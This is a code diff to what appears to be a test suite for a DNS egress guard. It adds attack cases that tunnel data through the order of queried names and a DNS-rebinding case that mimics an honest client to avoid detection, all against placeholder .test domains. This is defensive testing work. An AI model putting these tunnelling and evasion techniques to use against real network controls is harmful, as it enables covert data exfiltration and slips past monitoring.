@@ -185,6 +185,15 @@ func tunnelAttacks() []Attack {
 		return last
 	})
 	short.Leak, short.Least = asked("brief.test"), 501
+	order := one("tunnel-order-of-names", "2,400 questions for 64 names below an allowed wildcard whose answers are refused: data in their order; the first 664 may pass, and 4 a second", "",
+		func(*Agent) error {
+			var last error
+			for i := range 2400 {
+				_, last = exchange("udp", system, patience, pack(query(fmt.Sprintf("n%d.tide.test", i*37%64), typeA)))
+			}
+			return last
+		})
+	order.Leak, order.Least = asked("tide.test"), 1500
 	letters := one("tunnel-letter-case", "data in the upper and lower case of an allowed name", "", func(*Agent) error {
 		var last error
 		for _, name := range caseTunnel {
@@ -212,7 +221,7 @@ func tunnelAttacks() []Attack {
 	})
 	ids.Leak = func(e Event) bool { return e.Kind == QuestionEvent && e.ID == 0xbeef }
 	ids.Least = 2
-	return append(list, wildcard, short, letters, ids)
+	return append(list, wildcard, short, order, letters, ids)
 }
 
 var (
@@ -235,7 +244,8 @@ func answerAttacks() []Attack {
 	rebind := func(id, name, addr, tries string, typ dnsmessage.Type) Attack {
 		return Attack{ID: id, Family: family, Tries: "an allowed name that answers with " + tries, Leak: to(addr), Do: func(a *Agent) error {
 			_, err := resolve(name, typ)
-			return all(err, a.tcp(at(addr, 80), at(addr, 443)), a.udp(at(addr, 443)))
+			_, fetched := fetch(at(addr, 80), name) // as an honest client would, so the guard has nothing against it
+			return all(err, fetched, shake(at(addr, 443), name), a.tcp(at(addr, 80), at(addr, 443)), a.udp(at(addr, 443)))
 		}}
 	}
 	loopback := Attack{ID: "rebind-loopback", Family: family, Tries: "an allowed name that answers with a loopback address, to reach a local service",
